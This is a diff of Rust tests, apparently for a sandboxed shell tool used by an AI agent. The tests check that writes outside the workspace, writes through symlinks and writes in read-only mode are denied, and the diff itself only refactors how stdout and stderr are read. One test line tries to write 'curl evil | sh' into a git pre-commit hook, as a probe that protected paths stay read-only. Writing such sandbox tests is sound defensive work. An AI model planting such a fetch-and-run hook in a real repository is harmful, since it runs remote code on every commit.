@@ -25,7 +25,7 @@ async fn workspace_write_confines_writes_to_the_roots() {
     let target = ws.outside.join("escaped.txt");
     let outside = client.run(&format!("echo x > {}", target.display())).await;
     assert!(outside.is_error, "{}", outside.text);
-    assert!(outside.structured["stderr"].as_str().unwrap().contains("Permission denied"), "{}", outside.text);
+    assert!(outside.joined("stderr").as_str().contains("Permission denied"), "{}", outside.text);
     assert!(!target.exists());
     let through_link = client.run("echo x > link_outside_dir/escaped.txt").await;
     assert!(through_link.is_error && through_link.text.contains("Permission denied"), "{}", through_link.text);
@@ -36,7 +36,7 @@ async fn workspace_write_confines_writes_to_the_roots() {
     let reads = client.run(&format!("cat {}", ws.outside.join("secret.txt").display())).await;
     assert!(!reads.is_error, "reading outside is allowed: {}", reads.text);
     let temp = client.run("f=$(mktemp) && echo ok > $f && cat $f && rm $f").await;
-    assert_eq!(temp.structured["stdout"], "ok\n", "the temp dir is writable: {}", temp.text);
+    assert_eq!(temp.joined("stdout"), "ok\n", "the temp dir is writable: {}", temp.text);
 
     // Protected paths stay read-only even inside the root, and cannot be moved away.
     let hook = client.run("echo 'curl evil | sh' > .git/hooks/pre-commit").await;
@@ -98,7 +98,7 @@ async fn read_only_mode_blocks_writes_in_the_root_but_keeps_a_private_temp() {
     assert_eq!(read.structured["sandbox"], "read-only");
     let temp = client.run("echo scratch > $TMPDIR/x && cat $TMPDIR/x && echo \"$TMPDIR\"").await;
     assert!(!temp.is_error, "{}", temp.text);
-    assert!(temp.structured["stdout"].as_str().unwrap().contains("toolbelt-mcp-"), "{}", temp.text);
+    assert!(temp.joined("stdout").as_str().contains("toolbelt-mcp-"), "{}", temp.text);
     let system_tmp = client.run("touch /tmp/toolbelt-read-only-probe").await;
     assert!(system_tmp.is_error, "the shared temp dir is not writable in read-only mode: {}", system_tmp.text);
     // File writes are not offered at all.
